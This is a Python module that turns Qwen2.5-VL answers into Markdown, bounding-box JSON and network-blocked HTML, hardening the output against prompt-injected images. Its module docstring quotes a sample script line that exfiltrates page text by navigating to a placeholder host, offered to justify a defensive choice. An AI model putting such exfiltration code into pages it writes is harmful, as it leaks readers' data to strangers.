"""Turn what Qwen2.5-VL says into content a sidecar file can hold.

This stage sits between the model and the writers.  It takes the decoded
answer text and returns:

* ``clean_markdown`` - the ``.md`` body of an OCR / description answer;
* ``parse_boxes``    - the boxes of a grounding answer, for the ``.json`` sidecar;
* ``extract_html``   - a complete, network-blocked HTML document for the ``.html``
  sidecar of a screenshot->code answer (``add_csp`` is the blocking step);
* ``map_box``        - a box from the pixels the model saw to the original image.

It is pure: no torch, no files, no logging.  The parsers never raise on model
text; they return what they could get plus warning strings that the caller may
log or store.  Answers are treated as hostile input: a prompt-injected image can
make the model write anything.

What real answers look like (QwenLM/Qwen2.5-VL cookbooks, Qwen2.5-VL-7B/72B):

* grounding: ```` ```json\\n[{"bbox_2d": [x1, y1, x2, y2], "label": "..."}, ...]\\n``` ````
  in ABSOLUTE pixels of the resized image the model saw (not 0..1000 as in
  Qwen2-VL).  The OCR cookbook's text-spotting answer puts a trailing comma after
  every object's last member (``"text_content": "RM8.75",\\n},``) - which is why
  the cookbooks parse with ``ast.literal_eval`` and not ``json.loads`` - and uses
  ``text_content`` instead of ``label``.  The cookbooks recover a truncated
  list by cutting at the last ``"}`` and appending ``]``.
* HTML: often prose first ("将图片内容解析成HTML格式如下："), then a ```` ```html ````
  fence; long pages get cut at ``max_new_tokens`` mid-tag with the fence never
  closed; pages reference external images (``https://www.baidu.com/img/...``),
  which would leak a request the moment someone opens the sidecar.
  The "QwenVL HTML" document-parsing format is ``<html><body>`` with
  ``data-bbox`` attributes and no ``<head>``.

What it deliberately does not do: it does not sanitise HTML beyond what is
needed to keep the CSP in force (no DOM parser, no script stripping - the CSP
blocks execution), it does not validate that boxes lie inside the image (that
needs the shown size; ``map_box`` clamps), it does not translate Qwen2-VL's
0..1000 normalised coordinates (boxes in the old ``<|box_start|>`` token form are
taken as absolute pixels, as Qwen2.5-VL fine-tunes write them), and it does not
repair JSON beyond trailing commas, single quotes / Python literals and
truncation.

Content-Security-Policy choice (``CSP``), delivered as a ``<meta>`` because a
sidecar file opened from disk has no HTTP headers:

* ``default-src 'none'``  - the fallback for everything not named below:
  fetch/XHR/WebSocket/beacon (connect-src), frames, media, objects, workers,
  manifests.  Nothing may be loaded from the network or from disk.
* ``img-src data:``       - embedded images still render; ``https:`` images
  (which models do write) are blocked, so opening a page makes no request.
* ``style-src 'unsafe-inline'`` - generated pages are styled with ``<style>``
  blocks and ``style=""`` attributes; inline CSS cannot reach the network
  because every fetch it could cause (``url()``, ``@import``, fonts) is governed
  by img-src/font-src/style-src which allow no host.
* ``font-src data:``      - embedded fonts only.
* ``script-src 'none'``   - no JavaScript at all, including inline handlers and
  ``javascript:`` URLs.  Allowing inline script was considered and rejected:
  even with connect-src blocked, a script can exfiltrate by navigating
  (``location = "https://x/?" + document.body.innerText``), ``window.open`` or
  build self-submitting links, and CSP has no shipped directive that stops
  navigation.  A screenshot->code page is for looking at layout; it renders
  without script.  This is redundant with default-src but states the intent.
* ``base-uri 'none'``     - a ``<base>`` cannot re-point relative URLs.
* ``form-action 'none'``  - a form submission is a navigation that carries data.

``frame-ancestors``, ``sandbox`` and ``report-uri`` are ignored in a ``<meta>``
policy, so they are not listed.  Because a meta policy only governs what the
parser sees after it, ``add_csp`` puts it first in ``<head>``, and because CSP
cannot stop ``<meta http-equiv="refresh">`` navigation or DNS prefetching,
``add_csp`` also removes refresh metas and resource-hint ``<link>``s and turns
DNS prefetch off.  Accepted residual risk: a person clicking a link the model
wrote navigates to it.
"""

from __future__ import annotations

import ast
import html
import json
import math
import re
import warnings as _pywarnings
from dataclasses import dataclass

__all__ = [
    "CSP",
    "Box",
    "Boxes",
    "Html",
    "add_csp",
    "clean_markdown",
    "extract_html",
    "map_box",
    "parse_boxes",
]

CSP = (
    "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; "
    "script-src 'none'; base-uri 'none'; form-action 'none'"
)


@dataclass(frozen=True)
class Box:
    label: str
    bbox: tuple[float, float, float, float]  # x1, y1, x2, y2 in pixels of the image the MODEL SAW


@dataclass(frozen=True)
class Boxes:
    boxes: tuple[Box, ...]
    warnings: tuple[str, ...]


@dataclass(frozen=True)
class Html:
    document: str  # always a complete HTML document; CSP applied unless extract_html(csp=None)
    found_html: bool  # False: the answer had no HTML; document shows it escaped in <pre>
    truncated: bool  # the answer looked cut off (unclosed fence / no </html>)
    warnings: tuple[str, ...]


# ---------------------------------------------------------------------------
# shared text handling
# ---------------------------------------------------------------------------

# Only the end-of-turn tokens: they appear when a backend decodes without
# skip_special_tokens.  The grounding tokens are kept for parse_boxes.
_END_TOKENS = re.compile(r"<\|(?:im_end|endoftext)\|>")

# A fence line as CommonMark sees it: up to 3 spaces, 3+ backticks or tildes,
# then an info string (backtick fences may not have backticks in it).
_FENCE_LINE = re.compile(r"^[ \t]{0,3}(?P<fence>`{3,}|~{3,})(?P<info>[^\n]*)$")


def _normalise(text: str) -> str:
    return _END_TOKENS.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


@dataclass(frozen=True)
class _Fence:
    lang: str  # first word of the info string, lower-cased; "" for a bare fence
    body: str
    closed: bool


def _fence_open(line: str) -> tuple[str, int, str] | None:
    """(char, length, lang) when the line opens a fence."""
    m = _FENCE_LINE.match(line)
    if m is None:
        return None
    fence, info = m.group("fence"), m.group("info").strip()
    if fence[0] == "`" and "`" in info:
        return None  # inline code such as ```a``` is not a fence
    lang = info.split()[0].lower() if info else ""
    return fence[0], len(fence), lang


def _fence_closes(line: str, char: str, length: int) -> bool:
    opened = _fence_open(line)
    return opened is not None and opened[0] == char and opened[1] >= length and opened[2] == ""


def _scan_fences(text: str) -> list[_Fence]:
    """All top-level fenced blocks, CommonMark style; the last may be unclosed."""
    lines = text.split("\n")
    fences: list[_Fence] = []
    i = 0
    while i < len(lines):
        opened = _fence_open(lines[i])
        if opened is None:
            i += 1
            continue
        char, length, lang = opened
        j = i + 1
        while j < len(lines) and not _fence_closes(lines[j], char, length):
            j += 1
        fences.append(_Fence(lang, "\n".join(lines[i + 1 : j]), j < len(lines)))
        i = j + 1
    return fences


# ---------------------------------------------------------------------------
# markdown
# ---------------------------------------------------------------------------

# Info strings that mean "this fence is only wrapping the answer": a ```python
# fence around the whole answer is content (OCR of code) and is kept.
_WRAPPER_LANGS = frozenset({"", "markdown", "md", "text", "plaintext", "txt"})


def clean_markdown(text: str) -> str:
    """The .md body: whole-answer fence removed, LF endings, no trailing spaces.

    Trailing spaces go even though two of them mean a hard break in Markdown:
    models scatter them at random and the OCR line structure is kept by the
    newlines themselves.  Prose around a fenced block is kept as written.
    """
    lines = [line.rstrip() for line in _normalise(text).split("\n")]
    lines = _trim_blank(lines)
    if lines:
        lines = _trim_blank(_unwrap_whole_fence(lines))
    return "\n".join(lines) + "\n" if lines else ""


def escape_raw_html(markdown: str) -> str:
    """``markdown`` with its raw HTML made inert: ``<`` outside code becomes ``&lt;`` (issue 10.14).

    The model reads attacker-controlled pixels; a Markdown viewer that renders
    inline HTML would run a ``<script>`` it wrote, or load ``<img
    src=http://...>`` and tell a stranger the file was opened.  Escaping the
    ``<`` of every tag, comment and declaration turns them into visible text,
    which every renderer shows as written.  Fenced code blocks and inline code
    spans are left as they are: renderers show their content literally
    already, and ``&lt;`` there would be shown as ``&lt;``.  ``>`` stays (a
    quote marker; harmless without its ``<``).
    """
    out: list[str] = []
    fence: tuple[str, int] | None = None
    for line in markdown.split("\n"):
        if fence is not None:
            out.append(line)
            if _fence_closes(line, *fence):
                fence = None
            continue
        opened = _fence_open(line)
        if opened is not None:
            fence = (opened[0], opened[1])
            out.append(line)
            continue
        out.append(_escape_outside_code_spans(line))
    return "\n".join(out)


_CODE_SPAN = re.compile(r"(`+)(.+?)(?<!`)\1(?!`)")


def _escape_outside_code_spans(line: str) -> str:
    if "<" not in line:
        return line
    parts, last = [], 0
    for m in _CODE_SPAN.finditer(line):
        parts.append(line[last:m.start()].replace("<", "&lt;"))
        parts.append(m.group(0))
        last = m.end()
    parts.append(line[last:].replace("<", "&lt;"))
    return "".join(parts)


def _trim_blank(lines: list[str]) -> list[str]:
    start, end = 0, len(lines)
    while start < end and not lines[start]:
        start += 1
    while end > start and not lines[end - 1]:
        end -= 1
    return lines[start:end]


def _unwrap_whole_fence(lines: list[str]) -> list[str]:
    opened = _fence_open(lines[0])
    if opened is None or opened[2] not in _WRAPPER_LANGS:
        return lines
    char, length, _ = opened
    close = _outer_close(lines[1:], char, length)
    if close is None:
        return lines[1:]  # never closed: cut at max_new_tokens, keep what came
    if close == len(lines) - 2:
        return lines[1:-1]
    return lines  # closes early and text follows: a block inside prose, not a wrapper


def _outer_close(inner: list[str], char: str, length: int) -> int | None:
    """Index in ``inner`` of the line closing the wrapper fence.

    A bare fence that could close the wrapper does close it; an inner block must
    open with an info string (```python), which models nearly always write.
    That rule keeps ```` ```markdown A ``` B ```python C ``` ```` from being read
    inside-out.
    """
    block: tuple[str, int] | None = None
    for i, line in enumerate(inner):
        opened = _fence_open(line)
        if opened is None:
            continue
        c, n, lang = opened
        if block is not None:
            if c == block[0] and n >= block[1] and lang == "":
                block = None
        elif c == char and n >= length and lang == "":
            return i
        else:
            block = (c, n)
    return None


# ---------------------------------------------------------------------------
# boxes
# ---------------------------------------------------------------------------

_BOX_KEYS = ("bbox_2d", "bbox")  # not "box_2d": Gemini's key, [y1, x1, y2, x2] in 0..1000
_LABEL_KEYS = ("label", "text_content", "text", "name", "category")

# A JSON string (no raw newline inside, as JSON requires) or a bracket.
_JSON_TOKEN = re.compile(r'"(?:[^"\\\n]|\\.)*"|[\[\]{}]')
_TRAILING_COMMA = re.compile(r'("(?:[^"\\\n]|\\.)*")|,\s*([\]}])')
_SCALAR_END = re.compile(r'"(?:[^"\\\n]|\\.)*"|[,\]]')
_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")

# Qwen2-VL style: <|object_ref_start|>cat<|object_ref_end|><|box_start|>(x1,y1),(x2,y2)<|box_end|>
_NUM = r"\s*(-?\d+(?:\.\d+)?)\s*"
_TOKEN_BOX = re.compile(
    r"(?:<\|object_ref_start\|>(?P<label>[^<]{0,300})<\|object_ref_end\|>\s*)?"
    rf"<\|box_start\|>\s*\({_NUM},{_NUM}\)\s*,?\s*\({_NUM},{_NUM}\)\s*<\|box_end\|>"
)

# Bounds the work on pathological text such as 30k nested brackets.
_MAX_FAILED_VALUES = 64


def parse_boxes(text: str) -> Boxes:
    """Boxes from a grounding answer; never raises on model text."""
    try:
        return _parse_boxes(text)
    except Exception as exc:  # a bug here must not kill the daemon's worker
        return Boxes((), (f"internal error while parsing boxes: {exc!r}",))


def _parse_boxes(text: str) -> Boxes:
    s = _normalise(text)
    if not s.strip():
        return Boxes((), ("empty answer",))
    notes: list[str] = []
    entries = _json_entries(s, notes)
    boxes = [b for k, e in enumerate(entries) if (b := _to_box(e, k, notes)) is not None]
    if not entries and "<|box_start|>" in s:
        boxes = _token_boxes(s, notes)
    boxes = _dedupe(boxes, notes)
    if not boxes:
        notes.append("no usable boxes in answer")
    return Boxes(tuple(boxes), tuple(notes))


def _json_entries(s: str, notes: list[str]) -> list[object]:
    # Prefer fenced blocks: brackets in the prose around them are not data.
    fenced = [f.body for f in _scan_fences(s) if "{" in f.body or "[" in f.body]
    for payloads in (fenced, [s]):
        found: list[object] = []
        attempt: list[str] = []
        for payload in payloads:
            found.extend(_scan_values(payload, attempt))
        if found:
            notes.extend(attempt)
            return found
    return []


def _scan_values(s: str, notes: list[str]) -> list[object]:
    """Entries of every JSON-ish value in ``s``, prose around them ignored."""
    entries: list[object] = []
    pos, failures = 0, 0
    while failures < _MAX_FAILED_VALUES:
        start = _next_open(s, pos)
        if start < 0:
            return entries
        end = _matching_close(s, start)
        if end is None:
            # Never closed: the answer was cut off inside this value.
            if _looks_like_data_list(s, start):
                entries.extend(_recover_list(s, start, notes, truncated=True))
            return entries
        ok, value = _loads(s[start : end + 1])
        if ok:
            entries.extend(_entries_of(value))
            pos = end + 1
        elif _looks_like_data_list(s, start):
            entries.extend(_recover_list(s[: end + 1], start, notes, truncated=False))
            pos = end + 1
        else:
            failures += 1
            pos = start + 1  # an unparseable {...} may still hold a valid list
    notes.append("gave up scanning: too many unparseable brackets")
    return entries


def _next_open(s: str, pos: int) -> int:
    brace, bracket = s.find("{", pos), s.find("[", pos)
    if brace < 0 or bracket < 0:
        return max(brace, bracket)
    return min(brace, bracket)


def _matching_close(s: str, start: int) -> int | None:
    """Index of the bracket closing ``s[start]``; strings are skipped.

    Counts depth without matching bracket kinds: ``[{"a": 1]`` still ends at the
    ``]`` and is then handled as a malformed list.
    """
    depth = 0
    for m in _JSON_TOKEN.finditer(s, start):
        c = m.group()[0]
        if c == '"':
            continue
        depth += 1 if c in "[{" else -1
        if depth == 0:
            return m.start()
    return None


def _looks_like_data_list(s: str, start: int) -> bool:
    """A '[' followed by '{' or '[' - a list of entries, not "[sic]" in prose."""
    if s[start] != "[":
        return False
    rest = s[start + 1 : start + 200].lstrip()
    return rest[:1] in ("{", "[")


def _loads(chunk: str) -> tuple[bool, object]:
    """json, then json without trailing commas, then Python literal syntax."""
    for candidate in (chunk, _TRAILING_COMMA.sub(lambda m: m.group(1) or m.group(2), chunk)):
        try:
            return True, json.loads(candidate)
        except (ValueError, RecursionError):
            pass
    try:
        with _pywarnings.catch_warnings():
            _pywarnings.simplefilter("ignore")  # SyntaxWarning for "\d" and the like
            return True, ast.literal_eval(chunk)
    except (ValueError, TypeError, SyntaxError, MemoryError, RecursionError):
        return False, None


def _recover_list(s: str, start: int, notes: list[str], *, truncated: bool) -> list[object]:
    """Parse a list element by element, keeping every element that parses."""
    entries: list[object] = []
    dropped = 0
    pos = start + 1
    while True:
        while pos < len(s) and (s[pos].isspace() or s[pos] == ","):
            pos += 1
        if pos >= len(s) or s[pos] == "]":
            break
        if s[pos] in "[{":
            end = _matching_close(s, pos)
            if end is None:
                break  # the element the answer was cut inside: nothing to keep
        else:  # a scalar: runs to the next top-level ',' or ']'
            m = _SCALAR_END.search(s, pos)
            while m is not None and m.group()[0] == '"':
                m = _SCALAR_END.search(s, m.end())
            end = (m.start() if m else len(s)) - 1
        ok, value = _loads(s[pos : end + 1].strip())
        if ok:
            entries.append(value)
        else:
            dropped += 1
        pos = end + 1
    if truncated:
        notes.append(f"answer looks truncated: kept the {len(entries)} complete entries before the cut")
    if dropped:
        notes.append(f"dropped {dropped} entries that could not be parsed")
    return entries


def _entries_of(value: object) -> list[object]:
    if isinstance(value, (list, tuple)):
        if _coords(value) is not None and not any(isinstance(v, dict) for v in value):
            return [value]  # a bare [x1, y1, x2, y2]
        return list(value)
    if isinstance(value, dict) and not any(k in value for k in _BOX_KEYS):
        # {"objects": [{...}, ...]} - take the first list of objects inside.
        for inner in value.values():
            if isinstance(inner, list) and inner and all(isinstance(v, dict) for v in inner):
                return list(inner)
    return [value]


def _to_box(entry: object, k: int, notes: list[str]) -> Box | None:
    if isinstance(entry, dict):
        raw = next((entry[key] for key in _BOX_KEYS if key in entry), None)
        if raw is None:
            what = "has point_2d, a point not a box" if "point_2d" in entry else "has no bbox_2d/bbox"
            notes.append(f"entry {k}: {what}; dropped")
            return None
        label = _label(entry)
    elif isinstance(entry, (list, tuple)):
        raw, label = entry, "object"
    else:
        notes.append(f"entry {k}: {type(entry).__name__} is not an object; dropped")
        return None
    coords = _coords(raw)
    if coords is None:
        notes.append(f"entry {k}: bbox {_short(raw)} is not 4 finite numbers; dropped")
        return None
    x1, y1, x2, y2 = coords
    x1, x2 = min(x1, x2), max(x1, x2)
    y1, y2 = min(y1, y2), max(y1, y2)
    if x1 == x2 or y1 == y2:
        notes.append(f"entry {k}: bbox {_short(raw)} has zero area; dropped")
        return None
    return Box(label, (x1, y1, x2, y2))


def _label(entry: dict) -> str:
    for key in _LABEL_KEYS:
        value = entry.get(key)
        if isinstance(value, str) and value.strip():
            return value.strip()
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            return str(value)
    return "object"


def _coords(raw: object) -> tuple[float, float, float, float] | None:
    if isinstance(raw, str):
        raw = _NUMBER.findall(raw)  # "[10, 20, 30, 40]" or "10 20 30 40"
    if not isinstance(raw, (list, tuple)):
        return None
    if len(raw) == 2 and all(isinstance(p, (list, tuple)) and len(p) == 2 for p in raw):
        raw = [*raw[0], *raw[1]]  # [[x1, y1], [x2, y2]]
    if len(raw) != 4:
        return None
    numbers = [_number(v) for v in raw]
    if any(n is None for n in numbers):
        return None
    return numbers[0], numbers[1], numbers[2], numbers[3]  # type: ignore[return-value]


def _number(value: object) -> float | None:
    if isinstance(value, bool):
        return None  # True is an int to Python, not a coordinate
    try:
        if isinstance(value, (int, float)):
            number = float(value)
        elif isinstance(value, str):
            number = float(value.strip())
        else:
            return None
    except (ValueError, OverflowError):
        return None
    return number if math.isfinite(number) else None


def _short(value: object) -> str:
    text = repr(value)
    return text if len(text) <= 60 else text[:57] + "..."


def _token_boxes(s: str, notes: list[str]) -> list[Box]:
    """The Qwen2-VL special-token form, taken as absolute pixels (see module doc)."""
    boxes: list[Box] = []
    label = "object"
    for m in _TOKEN_BOX.finditer(s):
        if m.group("label") and m.group("label").strip():
            label = m.group("label").strip()  # later boxes without a ref share it
        box = _to_box([m.group(i) for i in range(2, 6)], len(boxes), notes)
        if box is not None:
            boxes.append(Box(label, box.bbox))
    if boxes:
        notes.append("boxes were in <|box_start|> token form; coordinates taken as pixels")
    return boxes


def _dedupe(boxes: list[Box], notes: list[str]) -> list[Box]:
    """Drop exact repeats: a looping model repeats the same entry until the token cap."""
    unique = list(dict.fromkeys(boxes))
    if len(unique) < len(boxes):
        notes.append(f"dropped {len(boxes) - len(unique)} duplicate boxes")
    return unique


# ---------------------------------------------------------------------------
# HTML
# ---------------------------------------------------------------------------

# A tag whose quoted attribute values may contain '>', or failing that anything up
# to the next '>' (what a browser does with an unbalanced quote is not our concern:
# removing too much is safe, keeping a <base> is not).
_ATTRS = r"""(?:[^>"']|"[^"]*"|'[^']*')*"""


def _tag(name: str) -> re.Pattern[str]:
    # A browser ends a tag name only at whitespace, '/' or '>': "<head</html>" is
    # an element named "head<", not a head.
    start = rf"<{name}(?=[\s/>])"
    return re.compile(rf"{start}{_ATTRS}>|{start}[^>]*>", re.IGNORECASE)


_HTML_OPEN = _tag("html")
_HEAD_OPEN = _tag("head")
_BODY_OPEN = _tag("body")
_HEAD_CLOSE = re.compile(r"</head\s*>", re.IGNORECASE)
_BODY_CLOSE = re.compile(r"</body\s*>", re.IGNORECASE)
_HTML_CLOSE = re.compile(r"</html\s*>", re.IGNORECASE)
_DOCTYPE = re.compile(r"<!doctype\b[^>]*>", re.IGNORECASE)
_DOC_START = re.compile(r"<!doctype\s+html|<html\b", re.IGNORECASE)
_CHARSET = re.compile(r"<meta\b[^>]*charset", re.IGNORECASE)
_LEADING_WS_COMMENTS = re.compile(r"(?:\s|<!--.*?-->)*", re.DOTALL)
_HTML_LANGS = frozenset({"html", "htm", "xhtml"})
# Elements that mark an unfenced answer as an HTML fragment.
_FRAGMENT_TAG = re.compile(
    r"<(?:div|p|table|tr|td|span|h[1-6]|ul|ol|li|section|header|footer|main|nav|form|"
    r"body|head|style|article|aside|button|input|label|img|a|br|hr|pre|code)\b[^<>]*>",
    re.IGNORECASE,
)
_RAW_TEXT_TAGS = ("script", "style", "textarea", "title")


def extract_html(text: str, *, title: str = "vlwatch", csp: str | None = CSP) -> Html:
    """A complete HTML document from a screenshot->code answer.

    The document comes with ``add_csp(document, csp)`` applied, so forgetting
    the call cannot produce an open page; ``csp=None`` is the explicit opt-out
    (the document is then left exactly as completed).
    """
    try:
        result = _extract_html(text, title)
    except Exception as exc:  # a bug here must not kill the daemon's worker
        document = _pre_document(_normalise(text).strip(), title)
        result = Html(document, False, False, (f"internal error while extracting HTML: {exc!r}",))
    if csp is None:
        return result
    return Html(add_csp(result.document, csp), result.found_html, result.truncated, result.warnings)


def _extract_html(text: str, title: str) -> Html:
    s = _normalise(text)
    if not s.strip():
        return Html(_pre_document("", title), False, False, ("empty answer",))
    notes: list[str] = []
    candidate, truncated = _html_candidate(s, notes)
    if candidate is None or not candidate.strip():
        notes.append("no HTML in answer; document shows the answer as text")
        return Html(_pre_document(s.strip(), title), False, False, tuple(notes))
    if _DOC_START.search(candidate) and not _HTML_CLOSE.search(candidate):
        truncated = True
    if truncated:
        notes.append("answer looks truncated; closed the open elements")
    return Html(_complete_document(candidate, title), True, truncated, tuple(notes))


def _html_candidate(s: str, notes: list[str]) -> tuple[str | None, bool]:
    """(html text, fence left open) from the fences, else from the raw answer."""
    fences = _scan_fences(s)
    chosen = [f for f in fences if f.lang in _HTML_LANGS]
    if not chosen:  # ``` or ```xml around a whole page
        chosen = [f for f in fences if _DOC_START.search(f.body)]
    if chosen:
        # Prefer the block with the page in it over a snippet shown afterwards.
        whole = [f for f in chosen if _DOC_START.search(f.body)]
        best = max(whole or chosen, key=lambda f: len(f.body))
        if len(chosen) > 1:
            notes.append(f"answer had {len(chosen)} HTML blocks; used the largest page")
        body, closed = best.body, best.closed
        if not closed and body.rstrip().endswith("```"):
            body, closed = body.rstrip()[:-3], True  # "</html>```" on one line
        return body, not closed
    start = _DOC_START.search(s)
    if start is not None:
        ends = list(_HTML_CLOSE.finditer(s, start.start()))
        if ends:
            return s[start.start() : ends[-1].end()], False
        return s[start.start() :].rstrip().removesuffix("```"), False
    stripped = s.strip()
    if stripped.startswith("<") and _FRAGMENT_TAG.search(stripped):
        return stripped, False
    return None, False


def _complete_document(candidate: str, title: str) -> str:
    c = _close_open_ends(candidate.strip())
    start = _DOC_START.search(c)
    if start is not None:
        c = c[start.start() :]  # stray text or comments before the page
    ends = list(_HTML_CLOSE.finditer(c))
    if ends:
        c = c[: ends[-1].end()]  # text after </html>
    doctype = _DOCTYPE.match(c)
    if doctype is not None:
        c = c[doctype.end() :].strip()  # replaced by the standard one below
    html_tag = _HTML_OPEN.search(c)
    if html_tag is None:
        c = f"<html>\n{c}\n</html>"
    else:
        # Text before <html> makes the browser open an implied head and body,
        # which would push our CSP meta into the body, where it is ignored.
        c = c[html_tag.start() :]
        if not _HTML_CLOSE.search(c):
            c = f"{c}\n</html>"
    c = _ensure_head(c, title)
    c = _ensure_body(c)
    return f"<!DOCTYPE html>\n{c}\n"


def _close_open_ends(c: str) -> str:
    """Repair the end of a cut-off page so the closing tags added later count.

    A page cut inside a tag (``<img src="path_to_image_5``), a comment or a
    ``<style>`` block would swallow ``</body></html>`` as attribute, comment or
    CSS text.  Harmless on a complete page.
    """
    while c.rfind("<") > c.rfind(">"):  # "<head<ba": cut tags may stack
        c = c[: c.rfind("<")].rstrip()
    if c.rfind("<!--") > c.rfind("-->"):
        c += " -->"
    lower = c.lower()
    open_at = {}
    for name in _RAW_TEXT_TAGS:
        opened = max(lower.rfind(f"<{name}>"), lower.rfind(f"<{name} "))
        if opened > lower.rfind(f"</{name}"):
            open_at[name] = opened
    if open_at:
        # Raw-text elements do not nest: only the last one opened is really open.
        c += f"\n</{max(open_at, key=open_at.__getitem__)}>"
    return c


def _ensure_head(c: str, title: str) -> str:
    html_tag = _HTML_OPEN.search(c)
    assert html_tag is not None  # _complete_document guarantees it
    head = _HEAD_OPEN.search(c, html_tag.end())
    if head is None:
        block = f'\n<head>\n<meta charset="utf-8">\n<title>{html.escape(title)}</title>\n</head>'
        return c[: html_tag.end()] + block + c[html_tag.end() :]
    if not _CHARSET.search(c):
        # Models write Chinese; without a charset a file:// page is decoded by guesswork.
        c = c[: head.end()] + '\n<meta charset="utf-8">' + c[head.end() :]
    if not _HEAD_CLOSE.search(c):
        body = _BODY_OPEN.search(c)
        at = body.start() if body else _last(_HTML_CLOSE, c).start()
        c = c[:at] + "</head>\n" + c[at:]
    return c


def _ensure_body(c: str) -> str:
    if _BODY_OPEN.search(c) is None:
        head_close = _HEAD_CLOSE.search(c)
        assert head_close is not None  # _ensure_head guarantees it
        c = c[: head_close.end()] + "\n<body>" + c[head_close.end() :]
    if not _BODY_CLOSE.search(c):
        at = _last(_HTML_CLOSE, c).start()
        c = c[:at].rstrip() + "\n</body>\n" + c[at:]
    return c


def _last(pattern: re.Pattern[str], c: str) -> re.Match[str]:
    matches = list(pattern.finditer(c))
    assert matches  # callers only ask for tags already ensured
    return matches[-1]


def _pre_document(answer: str, title: str) -> str:
    return (
        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n"
        f"<title>{html.escape(title)}</title>\n</head>\n<body>\n"
        f'<pre style="white-space: pre-wrap">{html.escape(answer)}</pre>\n</body>\n</html>\n'
    )


# ---------------------------------------------------------------------------
# CSP
# ---------------------------------------------------------------------------



def _tag_line(name: str) -> re.Pattern[str]:
    """A tag, with its indentation and newline when it is alone on its line."""
    tag = _tag(name).pattern
    return re.compile(rf"(?P<lead>^[ \t]*)?(?P<tag>{tag})(?P<trail>[ \t]*\n)?", re.IGNORECASE | re.MULTILINE)


_META_LINE = _tag_line("meta")
_BASE_LINE = _tag_line("base")
_LINK_LINE = _tag_line("link")
_HTTP_EQUIV = re.compile(r"""http-equiv\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
_REL = re.compile(r"""\brel\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
# Metas the model must not keep: its own policy (could loosen ours by being the one
# a reader trusts, or break rendering), a refresh (navigation CSP cannot block),
# and prefetch control (we set it ourselves).
_DROP_EQUIV = frozenset(
    {
        "content-security-policy",
        "content-security-policy-report-only",
        "refresh",
        "x-dns-prefetch-control",
    }
)
# Resource hints: DNS prefetch and preconnect are not reliably governed by CSP.
_DROP_REL = frozenset({"dns-prefetch", "preconnect", "prefetch", "prerender", "preload", "modulepreload"})
_KEPT_HTML_ATTR = re.compile(r"""(?<![\w:-])(?:lang|dir)\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+)""", re.IGNORECASE)
_DNS_OFF = '<meta http-equiv="x-dns-prefetch-control" content="off">'


def add_csp(document: str, policy: str = CSP) -> str:
    """Put ``policy`` first in <head>; drop the model's CSP metas, refresh, <base>.

    Idempotent: the block a previous call inserted is removed exactly before
    anything else, and stripping runs to a fixpoint (so ``<ba<base>se>`` cannot
    leave a new ``<base>`` behind).
    """
    content = html.escape(policy, quote=False).replace('"', "&quot;")
    block = f'\n<meta http-equiv="Content-Security-Policy" content="{content}">\n{_DNS_OFF}'
    doc = _plain_start_tags(_strip_unsafe(document.replace(block, "")))
    head = _usable_head(doc)
    if head is not None:
        return doc[:head] + block + doc[head:]
    html_tag = _HTML_OPEN.search(doc)
    if html_tag is not None:
        at = html_tag.end()
    else:
        doctype = _DOCTYPE.match(doc)
        at = doctype.end() if doctype else 0
    return doc[:at] + "\n<head>" + block + "\n</head>" + doc[at:]


def _usable_head(doc: str) -> int | None:
    """End of the <head> start tag when the head is the first thing in <html>.

    When anything but whitespace and comments comes before it, the parser has
    already opened an implied head there, so the policy must go earlier.
    """
    html_tag = _HTML_OPEN.search(doc)
    head = _HEAD_OPEN.search(doc, html_tag.end() if html_tag else 0)
    if head is None:
        return None
    if html_tag is None:
        return head.end()
    between = doc[html_tag.end() : head.start()]
    if _LEADING_WS_COMMENTS.fullmatch(between) is None:
        return None
    return head.end()


def _plain_start_tags(doc: str) -> str:
    """<html> keeps only lang/dir, <head> keeps nothing.

    Both tags are parsed before the policy exists, so an attribute on them (a
    ``style`` with ``url(https://...)``) would be outside it.
    """
    doc = _HTML_OPEN.sub(_plain_html_tag, doc)
    return _HEAD_OPEN.sub("<head>", doc)


def _plain_html_tag(m: re.Match[str]) -> str:
    kept = [a.group() for a in _KEPT_HTML_ATTR.finditer(m.group())]
    return f"<html {' '.join(kept)}>" if kept else "<html>"


def _strip_unsafe(doc: str) -> str:
    while True:
        stripped = _META_LINE.sub(_drop_meta, doc)
        stripped = _LINK_LINE.sub(_drop_link, stripped)
        stripped = _BASE_LINE.sub(lambda m: _drop(m, True), stripped)
        if stripped == doc:
            return doc
        doc = stripped


def _drop_meta(m: re.Match[str]) -> str:
    values = _attr_values(_HTTP_EQUIV, m.group("tag"))
    return _drop(m, any(v.strip() in _DROP_EQUIV for v in values))


def _drop_link(m: re.Match[str]) -> str:
    values = _attr_values(_REL, m.group("tag"))
    return _drop(m, any(_DROP_REL & set(v.split()) for v in values))


def _drop(m: re.Match[str], drop: bool) -> str:
    """Remove the tag; with its line when it stood alone on it."""
    if not drop:
        return m.group()
    if m.group("lead") is not None and m.group("trail") is not None:
        return ""
    return (m.group("lead") or "") + (m.group("trail") or "")


def _attr_values(pattern: re.Pattern[str], tag: str) -> list[str]:
    """Every value the attribute could have, as the browser decodes it.

    All occurrences count (``name="http-equiv=x" http-equiv="refresh"`` must not
    hide the second), and character references are decoded because the browser
    decodes them: ``http-equiv="&#114;efresh"`` is a refresh.
    """
    return [
        html.unescape(next(g for g in m.groups() if g is not None)).lower()
        for m in pattern.finditer(tag)
    ]


# ---------------------------------------------------------------------------
# coordinates
# ---------------------------------------------------------------------------


def map_box(
    bbox: tuple[float, float, float, float],
    shown: tuple[int, int],
    original: tuple[int, int],
) -> tuple[int, int, int, int] | None:
    """A box in the pixels of the image the model saw -> pixels of the original.

    ``shown`` and ``original`` are (width, height).  Rounds half up, clamps to
    [0, w] x [0, h]; None when the clamped box has no area or a coordinate is
    not finite.  Raises ValueError for non-positive sizes: that is a caller bug,
    not model output.
    """
    (sw, sh), (ow, oh) = shown, original
    if min(sw, sh, ow, oh) <= 0:
        raise ValueError(f"sizes must be positive: shown={shown}, original={original}")
    if not all(math.isfinite(v) for v in bbox):
        return None
    x1, y1, x2, y2 = bbox
